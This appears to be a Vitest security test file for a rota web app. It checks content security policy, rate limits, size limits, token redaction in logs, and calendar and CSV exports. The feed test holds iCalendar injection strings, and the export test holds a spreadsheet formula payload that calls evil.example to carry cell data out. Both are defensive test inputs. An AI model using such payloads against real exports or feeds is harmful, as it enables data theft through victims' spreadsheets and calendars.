// Hardening: security headers and a content security policy the page lives with, rate limits
// counted per token, request size limits, tokens kept out of the log, and spreadsheet cells that
// cannot run as formulas.
import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, onTestFinished, vi } from 'vitest';
import { loadConfig } from '../../src/config.js';
import { openDb } from '../../src/db/connection.js';
import { buildApp, type App } from '../../src/http/app.js';
import { ensureCoordinator } from '../../src/services/people.js';
import { makeApp, type TestApp } from '../helpers/app.js';
import { parseWithIcalJs } from '../helpers/ical.js';

const COORDINATOR = 'coordinator-token-for-hardening-01';

/** A real app on a real file with its own settings and a log that the test can read. */
async function appWith(settings: { rateLimitPerMinute?: number; logLevel?: string; now?: () => Date }): Promise<{ app: App; log: string[]; close(): Promise<void> }> {
  const dir = mkdtempSync(join(tmpdir(), 'rota-hardening-'));
  const file = join(dir, 'rota.sqlite');
  const now = new Date('2026-11-27T02:00:00Z');
  const config = loadConfig({ dbPath: file, publicUrl: 'https://rota.example.org', now: () => now, ...settings }, {});
  const db = openDb(file);
  ensureCoordinator(db, COORDINATOR, now);
  const log: string[] = [];
  const stream = new Writable({
    write(chunk: Buffer, _encoding, done) {
      log.push(chunk.toString());
      done();
    },
  });
  const app = await buildApp({ config, db, ...(settings.logLevel ? { logger: { level: settings.logLevel, stream } } : { logger: false }) });
  return {
    app,
    log,
    async close() {
      await app.close();
      db.$client.close();
      rmSync(dir, { recursive: true, force: true });
    },
  };
}

const bearer = (token: string) => ({ authorization: `Bearer ${token}` });

describe('the page under its content security policy', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await makeApp('2026-11-27T02:00:00Z');
  });
  afterAll(() => t.close());

  it.each(['/', '/me', '/desk', '/checkin'])('serves %s with a policy that allows only its own scripts, and no framing or sniffing', async (path) => {
    const res = await t.call('GET', path, { token: null });
    expect(res.status).toBe(200);
    const csp = String(res.headers['content-security-policy']);
    expect(csp).toContain("default-src 'self'");
    expect(csp).toContain("script-src 'self'");
    expect(csp).toContain("object-src 'none'");
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).not.toMatch(/script-src[^;]*'unsafe-(inline|eval)'/);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['x-frame-options']).toBe('SAMEORIGIN');
    // The personal link carries its token in the fragment; no page hands its address to others.
    expect(res.headers['referrer-policy']).toBe('no-referrer');
  });

  it.each(['/', '/me', '/desk', '/checkin'])('keeps %s working under that policy: no inline handlers, an inline script only by its hash, every other script served as JavaScript', async (path) => {
    const page = await t.call('GET', path, { token: null });
    const html = page.text;
    const scriptSrc = /script-src ([^;]*)/.exec(String(page.headers['content-security-policy']))![1]!.split(' ');
    const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)];
    expect(scripts.length).toBeGreaterThan(0);
    for (const [, attributes, body] of scripts) {
      if (body!.trim()) {
        // Only the personal page starts its first call inline, allowed by that text's hash alone.
        expect(path, 'inline script').toBe('/me');
        expect(scriptSrc).toContain(`'sha256-${createHash('sha256').update(body!).digest('base64')}'`);
        continue;
      }
      const src = /\bsrc="([^"]+)"/.exec(attributes!)?.[1];
      expect(src, `script without src in ${path}`).toBeDefined();
      expect(src!.startsWith('/'), `${src} is not served by Rota itself`).toBe(true);
      const res = await t.call('GET', src!, { token: null });
      expect(res.status, src).toBe(200);
      expect(String(res.headers['content-type']), src).toMatch(/javascript/);
    }
    expect(html).not.toMatch(/\son[a-z]+\s*=/i);
    expect(html).not.toMatch(/javascript:/i);
  });
});

describe('rate limits', () => {
  let a: Awaited<ReturnType<typeof appWith>>;
  beforeAll(async () => {
    a = await appWith({ rateLimitPerMinute: 5 });
  });
  afterAll(() => a.close());

  it('count requests per token, not per address: one busy token does not slow another on the same address', async () => {
    const made = await a.app.inject({ method: 'POST', url: '/api/v1/people', headers: bearer(COORDINATOR), payload: { name: 'Second captain' } });
    expect(made.statusCode).toBe(201);
    const volunteer = made.json().accessToken as string;
    const statuses: number[] = [];
    for (let i = 0; i < 6; i++) statuses.push((await a.app.inject({ method: 'GET', url: '/api/v1/me', headers: bearer(volunteer) })).statusCode);
    expect(statuses).toEqual([200, 200, 200, 200, 200, 429]);
    const limited = await a.app.inject({ method: 'GET', url: '/api/v1/me', headers: bearer(volunteer) });
    expect(limited.statusCode).toBe(429);
    expect(limited.json().error.code).toBe('RATE_LIMITED');
    expect(Number(limited.headers['retry-after'])).toBeGreaterThan(0);
    // Same address, different token (the coordinator used one request above): still served.
    expect((await a.app.inject({ method: 'GET', url: '/api/v1/me', headers: bearer(COORDINATOR) })).statusCode).toBe(200);
  });

  it('count each calendar feed by its own feed token, whichever of its feeds it opens', async () => {
    const made = await a.app.inject({ method: 'POST', url: '/api/v1/rotas', headers: bearer(COORDINATOR), payload: { name: 'East gate', timezone: 'Asia/Shanghai' } });
    const rotaFeed = new URL(made.json().feedUrl as string).pathname;
    const openFeed = rotaFeed.replace(/\.ics$/, '/open.ics');
    const team = await a.app.inject({ method: 'POST', url: '/api/v1/teams', headers: bearer(COORDINATOR), payload: { name: 'Building 8' } });
    const statuses: number[] = [];
    for (let i = 0; i < 6; i++) statuses.push((await a.app.inject({ method: 'GET', url: i % 2 === 0 ? rotaFeed : openFeed })).statusCode);
    expect(statuses).toEqual([200, 200, 200, 200, 200, 429]);
    expect((await a.app.inject({ method: 'GET', url: new URL(team.json().feedUrl as string).pathname })).statusCode).toBe(200);
  });

  it('start a token\'s new window a minute after its first request, and tell the caller what is left', async () => {
    let now = new Date('2026-11-27T02:00:00Z');
    const b = await appWith({ rateLimitPerMinute: 3, now: () => now });
    try {
      const me = () => b.app.inject({ method: 'GET', url: '/api/v1/me', headers: bearer(COORDINATOR) });
      const left: string[] = [];
      for (let i = 0; i < 3; i++) {
        const res = await me();
        expect(res.statusCode).toBe(200);
        expect(res.headers['x-ratelimit-limit']).toBe('3');
        left.push(String(res.headers['x-ratelimit-remaining']));
      }
      expect(left).toEqual(['2', '1', '0']);
      now = new Date(now.getTime() + 20_000);
      const refused = await me();
      expect(refused.statusCode).toBe(429);
      expect(refused.headers['retry-after']).toBe('40');
      now = new Date(now.getTime() + 39_000);
      expect((await me()).statusCode).toBe(429);
      now = new Date(now.getTime() + 1_000);
      const again = await me();
      expect(again.statusCode).toBe(200);
      expect(again.headers['x-ratelimit-remaining']).toBe('2');
      expect(again.headers['x-ratelimit-reset']).toBe('60');
    } finally {
      await b.close();
    }
  });

  it('leave requests without a token alone, such as the health check and the page', async () => {
    for (let i = 0; i < 12; i++) {
      expect((await a.app.inject({ method: 'GET', url: '/api/v1/health' })).statusCode).toBe(200);
      expect((await a.app.inject({ method: 'GET', url: '/' })).statusCode).toBe(200);
    }
  });

  it('are generous by default and can be set or turned off by ROTA_RATE_LIMIT', () => {
    expect(loadConfig({}, {}).rateLimitPerMinute).toBe(3000);
    expect(loadConfig({}, { ROTA_RATE_LIMIT: '120' }).rateLimitPerMinute).toBe(120);
    expect(loadConfig({}, { ROTA_RATE_LIMIT: '0' }).rateLimitPerMinute).toBe(0);
    expect(() => loadConfig({}, { ROTA_RATE_LIMIT: 'lots' })).toThrow(/ROTA_RATE_LIMIT/);
  });
});

describe('request size limits', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await makeApp('2026-11-27T02:00:00Z');
  });
  afterAll(() => t.close());

  it('refuse a JSON body over 1 MiB with 413 and store nothing', async () => {
    const before = (await t.call('GET', '/api/v1/people')).body.people.length;
    const res = await t.call('POST', '/api/v1/people', { body: JSON.stringify({ name: 'Big', phone: 'x'.repeat(1024 * 1024) }), headers: { 'content-type': 'application/json' } });
    expect(res.status).toBe(413);
    expect(res.body.error.code).toBe('BODY_TOO_LARGE');
    expect((await t.call('GET', '/api/v1/people')).body.people.length).toBe(before);
  });

  it('let a calendar import be larger (up to 5 MiB), but not without limit', async () => {
    const calendar = (await t.call('POST', '/api/v1/day-calendars', { body: { name: 'School breaks' } })).body;
    // A few all-day events with long descriptions: the size is what matters here, not the count.
    const ics = (bytes: number) => {
      const note = `寒假 winter break; ${'x'.repeat(70)}`.repeat(2000);
      let body = 'BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//school//EN\r\n';
      for (let day = 1; Buffer.byteLength(body) < bytes; day++) {
        body += `BEGIN:VEVENT\r\nUID:break-${day}@school.example\r\nDTSTAMP:20261101T000000Z\r\nDTSTART;VALUE=DATE:202701${String(day).padStart(2, '0')}\r\nSUMMARY:Winter break\r\nDESCRIPTION:${note}\r\nEND:VEVENT\r\n`;
      }
      return `${body}END:VCALENDAR\r\n`;
    };
    const headers = { 'content-type': 'text/calendar' };
    const fine = await t.call('POST', `/api/v1/day-calendars/${calendar.id}/import`, { body: ics(2 * 1024 * 1024), headers });
    expect(fine.status).toBe(201);
    const tooBig = await t.call('POST', `/api/v1/day-calendars/${calendar.id}/import`, { body: ics(6 * 1024 * 1024), headers });
    expect(tooBig.status).toBe(413);
  });
});

describe('the request log', () => {
  let a: Awaited<ReturnType<typeof appWith>>;
  beforeAll(async () => {
    a = await appWith({ logLevel: 'trace' });
  });
  afterAll(() => a.close());

  it('never contains an access token or a feed token, whichever way a request carried it', async () => {
    const secrets = [COORDINATOR];
    const call = async (method: 'GET' | 'POST' | 'PATCH', url: string, token: string | null, payload?: object) => {
      const res = await a.app.inject({ method, url, headers: token ? bearer(token) : {}, ...(payload ? { payload } : {}) });
      return res;
    };
    const person = (await call('POST', '/api/v1/people', COORDINATOR, { name: 'Captain Li' })).json();
    const token = person.accessToken as string;
    const feed = /\/feeds\/people\/([^/]+)\.ics$/.exec(person.feedUrl)![1]!;
    secrets.push(token, feed);
    const rota = (await call('POST', '/api/v1/rotas', COORDINATOR, { name: 'East gate', timezone: 'Asia/Shanghai' })).json();
    secrets.push(/\/feeds\/rotas\/([^/]+)\.ics$/.exec(rota.feedUrl)![1]!);
    const team = (await call('POST', '/api/v1/teams', COORDINATOR, { name: 'Building 3', memberIds: [person.id] })).json();
    secrets.push(/\/feeds\/teams\/([^/]+)\.ics$/.exec(team.feedUrl)![1]!);

    await call('GET', '/api/v1/me', token);
    await call('PATCH', `/api/v1/people/${person.id}`, token, { phone: '13800000000' });
    // Tokens in feed paths, in the query string by mistake, and tokens that are wrong or rotated.
    for (const kind of ['people', 'rotas', 'teams']) {
      for (const s of secrets) await call('GET', `/feeds/${kind}/${s}.ics?token=${s}`, null);
    }
    const rotated = (await call('POST', `/api/v1/people/${person.id}/tokens`, token, { kind: 'access' })).json().token as string;
    const rotatedFeed = (await call('POST', `/api/v1/people/${person.id}/tokens`, rotated, { kind: 'feed' })).json().token as string;
    secrets.push(rotated, rotatedFeed);
    const wrong = 'not-a-real-token-0123456789abcdef';
    secrets.push(wrong);
    expect((await call('GET', '/api/v1/me', wrong)).statusCode).toBe(401);
    expect((await call('GET', '/api/v1/me', token)).statusCode).toBe(401);
    await call('GET', `/api/v1/me?access_token=${rotated}`, null);

    const log = a.log.join('');
    expect(log.length).toBeGreaterThan(1000);
    for (const s of secrets) expect(log.includes(s) ? log.slice(Math.max(0, log.indexOf(s) - 300), log.indexOf(s) + 100) : null).toBeNull();
  });
});

describe('calendar feeds', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await makeApp('2026-11-27T02:00:00Z');
  });
  afterAll(() => t.close());

  it('carry line breaks in notes and places as text, so nobody can add events or properties to a feed', async () => {
    // Names are one line (a line break in one is refused); free text may hold line breaks, and
    // they must stay text in the feed.
    const inject = 'line one\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:injected@evil.example\r\nSUMMARY:Injected\r\nATTENDEE:mailto:evil@example.org';
    const rota = (await t.call('POST', '/api/v1/rotas', { body: { name: 'East gate', timezone: 'Asia/Shanghai', location: `Gate 2\nX-INJECTED:yes`, description: inject } })).body;
    const series = (
      await t.call('POST', `/api/v1/rotas/${rota.id}/series`, {
        body: { rrule: 'FREQ=DAILY', startDate: '2026-12-01', startTime: '07:15', durationMinutes: 45, minVolunteers: 1, maxVolunteers: 3, label: 'Mornings' },
      })
    ).body;
    const note = `Bring a vest\nSTATUS:CANCELLED\r\nBEGIN:VALARM\r\nACTION:DISPLAY\r\n${inject}`;
    expect((await t.call('PATCH', `/api/v1/shifts/${series.id}.20261203T0715`, { body: { note } })).status).toBe(200);
    const me = (await t.call('POST', '/api/v1/people', { body: { name: 'Li Wei' } })).body;
    const other = (await t.call('POST', '/api/v1/people', { body: { name: 'Zhang Min' } })).body;
    for (const p of [me, other]) {
      expect((await t.call('POST', `/api/v1/shifts/${series.id}.20261203T0715/signups`, { body: { personId: p.id } })).status).toBe(201);
    }
    for (const feedUrl of [me.feedUrl, rota.feedUrl]) {
      const res = await t.call('GET', new URL(feedUrl as string).pathname, { token: null });
      expect(res.status).toBe(200);
      // Unfolded content lines: only the feed's own components and properties start a line.
      const lines = res.text.replace(/\r\n[ \t]/g, '').split('\r\n');
      expect(lines.filter((l) => l === 'BEGIN:VEVENT').length).toBe(lines.filter((l) => l.startsWith('UID:')).length);
      expect(lines.some((l) => /^(ATTENDEE|X-INJECTED|BEGIN:VALARM|ACTION|UID:injected|SUMMARY:Injected|STATUS:CANCELLED)/.test(l))).toBe(false);
      const parsed = parseWithIcalJs(res.text);
      const event = parsed.events.find((e) => e.start.local === '2026-12-03T07:15:00')!;
      expect(event.status).not.toBe('CANCELLED');
      expect(parsed.events.some((e) => e.uid.startsWith('injected'))).toBe(false);
      // The words are still there, as text.
      expect(`${event.summary}\n${event.description}\n${event.location}`).toContain('X-INJECTED:yes');
      expect(event.description).toContain('BEGIN:VALARM');
    }
  });
});

describe('spreadsheet exports', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await makeApp('2026-11-27T02:00:00Z');
  });
  afterAll(() => t.close());

  it('write names that look like formulas as plain text, so a spreadsheet never runs them', async () => {
    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+SUM(1,2)', '-2+3', '@cmd'];
    const rota = (await t.call('POST', '/api/v1/rotas', { body: { name: 'East gate', timezone: 'Asia/Shanghai' } })).body;
    const series = (
      await t.call('POST', `/api/v1/rotas/${rota.id}/series`, {
        body: { rrule: 'FREQ=DAILY', startDate: '2026-11-01', startTime: '09:00', durationMinutes: 60, minVolunteers: 1, maxVolunteers: 10 },
      })
    ).body;
    for (const name of names) {
      const person = (await t.call('POST', '/api/v1/people', { body: { name } })).body;
      // A coordinator enters last week's paper sheet: the sign-up counts once the shift has ended.
      const signup = await t.call('POST', `/api/v1/shifts/${series.id}.20261120T0900/signups`, { body: { personId: person.id } });
      expect(signup.status).toBe(201);
    }
    const res = await t.call('GET', '/api/v1/stats/person-shifts?groupBy=person&from=2026-11-01&to=2026-11-30&format=csv');
    expect(res.status).toBe(200);
    expect(String(res.headers['content-type'])).toMatch(/^text\/csv/);
    const cells = parseCsv(res.text.replace(/^\uFEFF/, '')).map((row) => row[1]);
    for (const name of names) {
      expect(cells).toContain(`'${name}`);
      expect(cells).not.toContain(name);
    }
    for (const cell of parseCsv(res.text.replace(/^\uFEFF/, '')).flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

/** RFC 4180: quoted fields may hold commas, quotes (doubled) and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

describe('rate limits that count what they should', () => {
  let a: Awaited<ReturnType<typeof appWith>>;
  beforeEach(async () => {
    a = await appWith({ rateLimitPerMinute: 20 });
  });
  afterEach(() => a.close());

  const get = (url: string, token?: string) => a.app.inject({ method: 'GET', url, headers: token ? bearer(token) : {} });

  it('count failed sign-ins: the same unknown token 25 times gets 429 after 20', async () => {
    const statuses: number[] = [];
    for (let i = 0; i < 25; i++) statuses.push((await get('/api/v1/me', 'made-up-token-0123456789abcdef')).statusCode);
    expect(statuses.slice(0, 20)).toEqual(Array(20).fill(401));
    expect(statuses.slice(20)).toEqual(Array(5).fill(429));
  });

  it('count failed sign-ins per address too: 25 different unknown tokens get 429 after 20, while a good token is still served', async () => {
    const statuses: number[] = [];
    for (let i = 0; i < 25; i++) statuses.push((await get('/api/v1/me', `made-up-token-${String(i).padStart(20, '0')}`)).statusCode);
    expect(statuses.slice(0, 20)).toEqual(Array(20).fill(401));
    expect(statuses.slice(20)).toEqual(Array(5).fill(429));
    expect((await get('/api/v1/me')).statusCode).toBe(429);
    expect((await get('/api/v1/me', COORDINATOR)).statusCode).toBe(200);
  });

  it('match the routed path, so a percent-encoded /api path is signed in and counted like any other', async () => {
    for (const url of ['/%61pi/v1/people', '/api/v1/%70eople', '/%61%70%69/v1/me']) {
      const res = await get(url);
      expect(res.statusCode, url).toBe(401);
      expect(res.json().error.code).toBe('UNAUTHENTICATED');
    }
    const me = await get('/%61pi/v1/me', COORDINATOR);
    expect(me.statusCode).toBe(200);
    const statuses: number[] = [];
    for (let i = 0; i < 20; i++) statuses.push((await get(i % 2 ? '/%61pi/v1/me' : '/api/v1/me', COORDINATOR)).statusCode);
    expect(statuses.filter((s) => s === 429).length).toBe(1);
  });

  it('count a feed opened through a percent-encoded path under its feed token', async () => {
    const rota = await a.app.inject({ method: 'POST', url: '/api/v1/rotas', headers: bearer(COORDINATOR), payload: { name: 'East gate', timezone: 'Asia/Shanghai' } });
    const token = /\/feeds\/rotas\/([^/]+)\.ics$/.exec(rota.json().feedUrl as string)![1]!;
    const forms = [`/%66eeds/rotas/${token}.ics`, `/feeds/rotas/${token}.ics`, `/fe%65ds/rotas/${token}%2Eics`, `/feeds/%72otas/${token}/open.ics`];
    const statuses: number[] = [];
    for (let i = 0; i < 21; i++) statuses.push((await get(forms[i % forms.length]!)).statusCode);
    expect(statuses.slice(0, 20)).toEqual(Array(20).fill(200));
    expect(statuses[20]).toBe(429);
  });

  it('weigh expensive calls more: a year of gaps costs twelve ordinary calls, an import twenty', async () => {
    const made = await a.app.inject({ method: 'POST', url: '/api/v1/people', headers: bearer(COORDINATOR), payload: { name: 'Second captain', role: 'coordinator' } });
    const second = made.json().accessToken as string;
    expect((await get('/api/v1/gaps?from=2027-01-01&to=2027-12-31', second)).statusCode).toBe(200);
    const again = await get('/api/v1/gaps?from=2027-01-01&to=2027-12-31', second);
    expect(again.statusCode).toBe(429);
    expect(again.json().error.code).toBe('RATE_LIMITED');
    expect(Number(again.headers['retry-after'])).toBeGreaterThan(0);
    // A week of gaps is an ordinary call: the coordinator (one call used above) has room for many.
    for (let i = 0; i < 10; i++) expect((await get('/api/v1/gaps?from=2027-01-04&to=2027-01-10', COORDINATOR)).statusCode).toBe(200);
    // An import weighs 20: after one, the token's minute is used up.
    const third = (await a.app.inject({ method: 'POST', url: '/api/v1/people', headers: bearer(COORDINATOR), payload: { name: 'Third captain', role: 'coordinator' } })).json().accessToken as string;
    const imported = await a.app.inject({ method: 'POST', url: '/api/v1/people/import', headers: bearer(third), payload: { text: 'Liu Yang, 13800138000', dryRun: true } });
    expect(imported.statusCode).toBe(200);
    expect((await get('/api/v1/me', third)).statusCode).toBe(429);
  });
});

describe('the request log, for paths written in other ways', () => {
  let a: Awaited<ReturnType<typeof appWith>>;
  beforeAll(async () => {
    a = await appWith({ logLevel: 'trace' });
  });
  afterAll(() => a.close());

  it('never contains a feed token, percent-encoded, twice encoded, or in a path that is not routed', async () => {
    const person = (await a.app.inject({ method: 'POST', url: '/api/v1/people', headers: bearer(COORDINATOR), payload: { name: 'Captain Li' } })).json();
    const token = /\/feeds\/people\/([^/]+)\.ics$/.exec(person.feedUrl as string)![1]!;
    const encoded = [...token].map((c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`).join('');
    const urls = [
      `/%66eeds/people/${token}.ics`,
      `/feeds/people/${encoded}.ics`,
      `/%2566eeds/people/${token}.ics`,
      `/FEEDS/people/${token}.ics`,
      `/feeds//people/${token}.ics`,
      `/me/${token}`,
      `/api/v1/people?feed=${token}`,
      `/%E0%A4%A/${token}`,
    ];
    for (const url of urls) await a.app.inject({ method: 'GET', url });
    const log = a.log.join('');
    expect(log).toContain('[token]');
    for (const secret of [token, encoded, token.slice(4), encoded.slice(12)]) {
      expect(log.includes(secret) ? log.slice(Math.max(0, log.indexOf(secret) - 200), log.indexOf(secret) + 100) : null).toBeNull();
    }
  });
});

describe('caching and sniffing', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await makeApp('2026-11-27T02:00:00Z');
  });
  afterAll(() => t.close());

  it('keep API answers, token-issuing answers, exports and refusals out of every cache, and declare their type final', async () => {
    const person = await t.call('POST', '/api/v1/people', { body: { name: 'Captain Wu' } });
    const answers = [
      person,
      await t.call('POST', `/api/v1/people/${person.body.id}/tokens`, { body: { kind: 'feed' } }),
      await t.call('GET', '/api/v1/me'),
      await t.call('GET', '/api/v1/stats/person-shifts?groupBy=person&from=2026-11-01&to=2026-11-30&format=csv'),
      await t.call('GET', '/api/v1/me', { token: null }),
      await t.call('GET', '/api/v1/no-such-route'),
      await t.call('POST', '/api/v1/people', { body: { name: '' } }),
    ];
    for (const res of answers) {
      expect(res.headers['cache-control'], JSON.stringify(res.body)).toBe('no-store');
      expect(res.headers['x-content-type-options']).toBe('nosniff');
    }
    const feedUrl = (await t.call('GET', `/api/v1/people/${person.body.id}`)).body.feedUrl as string;
    const feed = await t.call('GET', new URL(feedUrl).pathname, { token: null });
    expect(feed.status).toBe(200);
    expect(feed.headers['x-content-type-options']).toBe('nosniff');
  });

  it.each(['/%E0%A4%A', '/api/v1/%E0%A4%A', '/feeds/people/%E0%A4%A.ics'])('answer a malformed address such as %s in the API error shape', async (url) => {
    const res = await t.call('GET', url, { token: null });
    expect(res.status).toBe(400);
    expect(res.body).toEqual({ error: { code: 'BAD_REQUEST', message: expect.stringMatching(/address could not be read/) } });
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.headers['x-content-type-options']).toBe('nosniff');
  });
});

describe('the request log at its default level', () => {
  let a: Awaited<ReturnType<typeof appWith>>;
  afterEach(() => a.close());

  const entries = (log: string[]) =>
    log
      .join('')
      .split('\n')
      .filter(Boolean)
      .map((line) => JSON.parse(line) as { level: number; msg: string; reqId?: string; req?: { method: string; url: string }; res?: { statusCode: number }; responseTime?: number });

  it('has one line per request, its completion, with method, path (tokens hidden), status and time', async () => {
    a = await appWith({ logLevel: 'info' });
    const person = (await a.app.inject({ method: 'POST', url: '/api/v1/people', headers: bearer(COORDINATOR), payload: { name: 'Captain Li' } })).json();
    const feedPath = new URL(person.feedUrl as string).pathname;
    a.log.length = 0;
    const statuses = [
      (await a.app.inject({ method: 'GET', url: feedPath })).statusCode,
      (await a.app.inject({ method: 'GET', url: '/api/v1/me', headers: bearer(person.accessToken as string) })).statusCode,
      (await a.app.inject({ method: 'GET', url: '/api/v1/me', headers: bearer('not-a-real-token-0123456789abcdef') })).statusCode,
      (await a.app.inject({ method: 'GET', url: '/api/v1/no-such-route' })).statusCode,
    ];
    expect(statuses).toEqual([200, 200, 401, 404]);
    const lines = entries(a.log).filter((e) => e.reqId);
    expect(lines.map((e) => [e.msg, e.req?.method, e.req?.url, e.res?.statusCode])).toEqual([
      ['request completed', 'GET', '/feeds/people/[token]', 200],
      ['request completed', 'GET', '/api/v1/me', 200],
      ['request completed', 'GET', '/api/v1/me', 401],
      ['request completed', 'GET', '/api/v1/no-such-route', 404],
    ]);
    expect(new Set(lines.map((e) => e.reqId)).size).toBe(4);
    for (const e of lines) expect(e.responseTime).toBeGreaterThanOrEqual(0);
    const text = a.log.join('');
    for (const secret of [feedPath.split('/').at(-1)!.replace(/\.ics$/, ''), person.accessToken as string]) expect(text).not.toContain(secret);
  });

  it('counts the answers of 304 (a calendar\'s poll finding its copy current) in one line a minute, not a line each', async () => {
    // The summary's clock only: Fastify and the database keep their own timers.
    vi.useFakeTimers({ toFake: ['setInterval', 'clearInterval'] });
    onTestFinished(() => {
      vi.useRealTimers();
    });
    a = await appWith({ logLevel: 'info' });
    const person = (await a.app.inject({ method: 'POST', url: '/api/v1/people', headers: bearer(COORDINATOR), payload: { name: 'Captain Li' } })).json();
    const feedPath = new URL(person.feedUrl as string).pathname;
    const first = await a.app.inject({ method: 'GET', url: feedPath });
    const poll = async () => (await a.app.inject({ method: 'GET', url: feedPath, headers: { 'if-none-match': first.headers.etag as string } })).statusCode;
    a.log.length = 0;
    expect([await poll(), await poll(), await poll()]).toEqual([304, 304, 304]);
    expect((await a.app.inject({ method: 'GET', url: '/api/v1/me', headers: bearer(person.accessToken as string) })).statusCode).toBe(200);
    expect(entries(a.log).map((e) => [e.msg, e.res?.statusCode])).toEqual([['request completed', 200]]);
    vi.advanceTimersByTime(60_000);
    const summary = entries(a.log).filter((e) => !e.reqId);
    expect(summary.map((e) => [e.level, e.msg, (e as { notModified?: number }).notModified])).toEqual([[30, 'answered 3 conditional requests 304 (not modified)', 3]]);
    // Nothing new: no line. One more poll, then closing: its count is not lost.
    vi.advanceTimersByTime(60_000);
    expect(entries(a.log).filter((e) => !e.reqId)).toHaveLength(1);
    expect(await poll()).toBe(304);
    await a.app.close();
    expect(entries(a.log).filter((e) => !e.reqId).map((e) => e.msg)).toContain('answered 1 conditional request 304 (not modified)');
  });

  it('logs each 304 too when the level is debug', async () => {
    a = await appWith({ logLevel: 'debug' });
    const person = (await a.app.inject({ method: 'POST', url: '/api/v1/people', headers: bearer(COORDINATOR), payload: { name: 'Captain Li' } })).json();
    const feedPath = new URL(person.feedUrl as string).pathname;
    const first = await a.app.inject({ method: 'GET', url: feedPath });
    a.log.length = 0;
    await a.app.inject({ method: 'GET', url: feedPath, headers: { 'if-none-match': first.headers.etag as string } });
    expect(entries(a.log).filter((e) => e.msg === 'request completed').map((e) => [e.level, e.req?.url, e.res?.statusCode])).toEqual([[20, '/feeds/people/[token]', 304]]);
  });

  it('logs each request\'s arrival too when the level is debug', async () => {
    a = await appWith({ logLevel: 'debug' });
    await a.app.inject({ method: 'GET', url: '/api/v1/health' });
    expect(entries(a.log).filter((e) => e.reqId).map((e) => e.msg)).toEqual(['incoming request', 'request completed']);
  });
});

describe('signing in, route by route', () => {
  let a: Awaited<ReturnType<typeof appWith>>;
  beforeAll(async () => {
    a = await appWith({});
  });
  afterAll(() => a.close());

  it('asks for a token on the HEAD twin Fastify adds to each API GET, and not on public routes or feeds', async () => {
    const head = async (url: string, token?: string) => (await a.app.inject({ method: 'HEAD', url, headers: token ? bearer(token) : {} })).statusCode;
    expect(await head('/api/v1/me')).toBe(401);
    expect(await head('/%61pi/v1/me')).toBe(401);
    expect(await head('/api/v1/me', COORDINATOR)).toBe(200);
    expect(await head('/api/v1/health')).toBe(200);
    const feedUrl = (await a.app.inject({ method: 'GET', url: '/api/v1/me', headers: bearer(COORDINATOR) })).json().feedUrl as string;
    expect((await a.app.inject({ method: 'GET', url: new URL(feedUrl).pathname })).statusCode).toBe(200);
  });
});
